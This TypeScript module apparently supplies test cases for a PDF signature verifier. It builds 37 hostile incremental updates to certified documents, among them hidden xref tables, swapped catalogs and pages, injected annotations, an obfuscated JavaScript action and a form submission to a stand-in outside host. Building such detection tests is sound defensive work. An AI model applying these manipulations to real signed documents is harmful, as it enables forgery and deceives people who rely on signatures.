import type { UpdateChange, UpdatePlace } from './other-signer.js';

export type HostileChange = (typeof NAMES)[number];

const NAMES = [
  'REWRITES_THE_PAGE',
  'REWRITES_THE_CONTENT',
  'HIDES_A_TABLE',
  'HIDES_A_STREAM_OF_ENTRIES',
  'FREES_THE_CONTENT',
  'MAKES_THE_CONTENT_TOO_HIGH',
  'INDENTS_A_HEADING',
  'SKIPS_THE_DOCUMENT',
  'NAMES_ANOTHER_CATALOG',
  'SHOWS_OTHER_PAGES',
  'LEAVES_ITS_FIELD_OUT',
  'HIDES_AN_OBJECT',
  'HIDES_THE_LAST_OBJECT',
  'LISTS_AN_OBJECT_TWICE',
  'TAKES_THE_CONTENT_FOR_A_PAGE',
  'COUNTS_TOO_FEW',
  'COUNTS_TOO_MANY',
  'NAMES_ANOTHER_OBJECT',
  'ENCRYPTS',
  'WRITES_A_NOTE_INTO_THE_PAGE',
  'WRITES_A_NOTE_BEHIND_THE_ANNOTATIONS',
  'GIVES_THE_ANNOTATIONS_TWICE',
  'TAKES_AN_ANNOTATION_AWAY',
  'ADDS_A_SECOND_FIELD',
  'ADDS_A_FIELD_OF_TEXT',
  'CERTIFIES_OUTSIDE_ITS_FIELD',
  'SHOWS_ITS_FIELD',
  'SHOWS_ITS_FIELD_IN_OTHER_WORDS',
  'SHOWS_A_NOTE_WITHOUT_EXTENT',
  'ADDS_ANOTHER_FORM',
  'ACTS',
  'ACTS_WITHOUT_SAYING',
  'SUBMITS_A_FORM',
  'IMPORTS_DATA',
  'OPENS_AN_ADDRESS',
  'COMMENTS_OUT_THE_END',
  'ENDS_IN_A_STRING',
] as const;

const NOTE = '<</Type/Annot/Subtype/FreeText/Rect[100 100 400 200]/Contents(LULUS)/DA(/Helv 40 Tf)>>';
const SHOWN = 'BT /F1 40 Tf 100 400 Td (Orang lain) Tj ET';
const STREAM = `<</Length ${SHOWN.length}>>\nstream\n${SHOWN}\nendstream`;

/** What else a signer can do to a document that it certifies: each leaves a file that programs open. */
export const HOSTILE_CHANGES: Readonly<Record<HostileChange, UpdateChange>> = {
  REWRITES_THE_PAGE: {
    objects: (objects, place) => {
      inObject(objects, place.page, `/Contents ${contentOf(place)} 0 R`, `/Contents ${place.next} 0 R`);
      objects.set(place.next, STREAM);
    },
  },
  REWRITES_THE_CONTENT: { objects: (objects, place) => objects.set(contentOf(place), STREAM) },
  // Readers follow /Prev from table to table, and the newer one counts.
  HIDES_A_TABLE: {
    text: (update, place) => {
      const from = place.document.length;
      const tableAt = update.lastIndexOf('xref\n', update.lastIndexOf('startxref') - 1);
      const object = `${contentOf(place)} 0 obj\n${STREAM}\nendobj\n`;
      const hidden = `xref\n${contentOf(place)} 1\n${entry(from + tableAt)}trailer\n<</Size ${place.next + 1}/Root ${place.root} 0 R/Prev ${place.tableAt}>>\n`;
      const more = update.slice(0, tableAt) + object + hidden;
      const newest = update
        .slice(tableAt)
        .replace(`/Prev ${place.tableAt}`, `/Prev ${from + tableAt + object.length}`)
        .replace(/startxref\n\d+/, `startxref\n${from + more.length}`);
      return more + newest;
    },
  },
  HIDES_A_STREAM_OF_ENTRIES: { text: trailing((trailer) => `/XRefStm 15${trailer}`) },
  FREES_THE_CONTENT: { text: listing((place) => `${contentOf(place)} 1\n0000000000 00001 f \n`) },
  MAKES_THE_CONTENT_TOO_HIGH: { text: (update) => update.replace(/\/Size \d+/, '/Size 5') },
  INDENTS_A_HEADING: {
    objects: (objects, place) => objects.set(place.next, STREAM),
    text: (update, place) => {
      const listed = listing(() => ` ${contentOf(place)} 1\n${entry(startOf(update, place))}`);
      return listed(update, place).replace(`${place.next} 0 obj`, `${contentOf(place)} 0 obj`);
    },
  },
  SKIPS_THE_DOCUMENT: { text: (update) => update.replace(/\/Prev \d+/, '/Prev 15') },
  NAMES_ANOTHER_CATALOG: {
    objects: (objects, { root, next }) => objects.set(next, objects.get(root) ?? ''),
    text: (update, { root, next }) => update.replace(`/Root ${root} 0 R`, `/Root ${next} 0 R`),
  },
  SHOWS_OTHER_PAGES: {
    objects: (objects, { root, page, next }) => {
      inObject(objects, root, /\/Pages \d+ 0 R/, `/Pages ${next} 0 R`);
      objects.set(next, `<</Type/Pages/Count 1/Kids[${page} 0 R]>>`);
    },
  },
  LEAVES_ITS_FIELD_OUT: { text: (update, { field }) => update.replace(/\/Size \d+/, `/Size ${field}`) },
  HIDES_AN_OBJECT: {
    objects: (objects, { field, next }) => {
      inObject(objects, field, />>$/, `>>\nendobj\n${next + 1} 0 obj\n${NOTE}`);
      objects.set(next, NOTE);
    },
  },
  HIDES_THE_LAST_OBJECT: {
    objects: (objects, { field, next }) =>
      inObject(objects, field, />>$/, `>>\nendobj\n${next} 0 obj\n${NOTE}`),
  },
  LISTS_AN_OBJECT_TWICE: {
    text: (update, place) => {
      const at = place.document.length + update.indexOf(`${place.field} 0 obj`);
      return listing(() => `${place.field} 1\n${entry(at)}`)(update, place);
    },
  },
  TAKES_THE_CONTENT_FOR_A_PAGE: {
    objects: (objects, place) => {
      const head = objectIn(place, contentOf(place));
      const dictionary = head.slice(head.indexOf('<<'), head.indexOf('stream'));
      const data = SHOWN.padEnd(Number(/\/Length (\d+)/.exec(dictionary)?.[1]));
      const annotated = dictionary.trim().replace(/>>$/, `/Annots[${place.field} 0 R]>>`);
      objects.set(contentOf(place), `${annotated}\nstream\n${data}\nendstream`);
    },
  },
  COUNTS_TOO_FEW: { text: (update, { page }) => update.replace(`\n${page} 1\n`, `\n${page} 0\n`) },
  COUNTS_TOO_MANY: { text: (update, { page }) => update.replace(`\n${page} 1\n`, `\n${page} 2\n`) },
  NAMES_ANOTHER_OBJECT: {
    objects: (objects, place) => objects.set(place.next, STREAM),
    text: (update, { next }) => update.replace(`${next} 0 obj`, `${next + 1} 0 obj`),
  },
  ENCRYPTS: {
    objects: (objects, { next }) => objects.set(next, '<</Filter/Standard/V 1/R 2/O()/U()/P -4>>'),
    text: trailing((trailer, { next }) => `/Encrypt ${next} 0 R${trailer}`),
  },
  WRITES_A_NOTE_INTO_THE_PAGE: {
    objects: (objects, { page }) => inObject(objects, page, /\/Annots\[([^\]]*)\]/, `/Annots[$1 ${NOTE}]`),
  },
  WRITES_A_NOTE_BEHIND_THE_ANNOTATIONS: {
    objects: (objects, { page }) => inObject(objects, page, /\/Annots\[([^\]]*)\]/, `/Annots[[$1] ${NOTE}]`),
  },
  GIVES_THE_ANNOTATIONS_TWICE: {
    objects: (objects, { page, next }) => {
      inObject(objects, page, '/Annots[', `/Annots[${next} 0 R]/Annots[`);
      objects.set(next, NOTE);
    },
  },
  TAKES_AN_ANNOTATION_AWAY: {
    objects: (objects, { page, field }) =>
      inObject(objects, page, /\/Annots\[[^\]]*\]/, `/Annots[${field} 0 R ${field} 0 R]`),
  },
  ADDS_A_SECOND_FIELD: {
    objects: (objects, { root, next }) => {
      inObject(objects, root, /\/Fields\[([^\]]*)\]/, `/Fields[$1 ${next} 0 R]`);
      objects.set(next, '<</Type/Annot/Subtype/Widget/FT/Tx/T(nilai)/V(100)/Rect[100 100 200 120]>>');
    },
  },
  ADDS_A_FIELD_OF_TEXT: { objects: (objects, { field }) => inObject(objects, field, '/FT/Sig', '/FT/Tx') },
  CERTIFIES_OUTSIDE_ITS_FIELD: {
    objects: (objects, { field, next }) => {
      inObject(objects, field, /\/V \d+ 0 R/, `/V ${next} 0 R`);
      objects.set(next, '<</Type/Sig/Filter/Adobe.PPKLite>>');
    },
  },
  SHOWS_ITS_FIELD: {
    objects: (objects, { field }) =>
      inObject(objects, field, /\/T\([^)]*\)(.*)\/Rect\[0 0 0 0\]/, '/T(/Rect[0 0 0 0])$1/Rect[9 9 400 200]'),
  },
  SHOWS_ITS_FIELD_IN_OTHER_WORDS: {
    objects: (objects, { field }) => inObject(objects, field, '/Rect[0 0 0 0]', '/Rect[1e1 10 10 200]'),
  },
  SHOWS_A_NOTE_WITHOUT_EXTENT: {
    objects: (objects, { field }) =>
      inObject(objects, field, '/Subtype/Widget', '/Subtype/Text/Contents(LULUS)'),
  },
  ADDS_ANOTHER_FORM: {
    objects: (objects, { root, next }) => {
      inObject(objects, root, '/AcroForm<<', `/AcroForm<</XFA ${next} 0 R`);
      objects.set(next, '<</Length 6>>\nstream\n<xdp/>\nendstream');
    },
  },
  ACTS: acting('/AA<</PO<</S/Named/N/Print>>>>'),
  ACTS_WITHOUT_SAYING: acting('/A<</S/Java#53cript/JS(app.alert\\(1\\))>>'),
  SUBMITS_A_FORM: acting('/A<</S/SubmitForm/F(https://elsewhere.example)>>'),
  IMPORTS_DATA: acting('/A<</S/ImportData/F(nilai.fdf)>>'),
  OPENS_AN_ADDRESS: acting('/A<</S/URI/URI(https://elsewhere.example)>>'),
  // What ends a dictionary to whoever does not know comments: the catalog goes on, with other pages.
  COMMENTS_OUT_THE_END: {
    objects: (objects, { root, page, next }) => {
      inObject(objects, root, />>$/, `%>>\n/Pages ${next} 0 R>>`);
      objects.set(next, `<</Type/Pages/Count 1/Kids[${page} 0 R]>>`);
    },
  },
  // To whoever looks for the word, the page ends there.
  ENDS_IN_A_STRING: {
    objects: (objects, { page, next }) => {
      inObject(objects, page, /(\/Annots\[[^\]]*\])/, `$1(endobj)/Rotate 180/Contents ${next} 0 R`);
      objects.set(next, STREAM);
    },
  },
};

export const HOSTILE_BEHAVIOURS: readonly HostileChange[] = NAMES;

function contentOf(place: UpdatePlace): number {
  return Number(/\/Contents (\d+) 0 R/.exec(objectIn(place, place.page))?.[1]);
}

/** From an object of the document on. */
function objectIn({ document }: UpdatePlace, number: number): string {
  return document.slice(document.lastIndexOf(`\n${number} 0 obj`));
}

function inObject(objects: Map<number, string>, number: number, from: string | RegExp, to: string): void {
  const was = objects.get(number) ?? '';
  const is = was.replace(from, to);
  if (is === was) throw new Error(`Object ${number} is not as expected: ${was}`);
  objects.set(number, is);
}

/** Its field does something. */
function acting(action: string): UpdateChange {
  return { objects: (objects, { field }) => inObject(objects, field, '/F 132', `/F 132${action}`) };
}

function trailing(
  change: (trailer: string, place: UpdatePlace) => string,
): (update: string, place: UpdatePlace) => string {
  return (update, place) => {
    const at = update.lastIndexOf('trailer\n<<') + 'trailer\n<<'.length;
    return update.slice(0, at) + change(update.slice(at), place);
  };
}

/** With more in its table. */
function listing(more: (place: UpdatePlace) => string): (update: string, place: UpdatePlace) => string {
  return (update, place) => {
    const at = update.lastIndexOf('trailer\n');
    return update.slice(0, at) + more(place) + update.slice(at);
  };
}

function entry(offset: number): string {
  return `${String(offset).padStart(10, '0')} 00000 n \n`;
}

function startOf(update: string, { document, next }: UpdatePlace): number {
  return document.length + update.indexOf(`${next} 0 obj`);
}
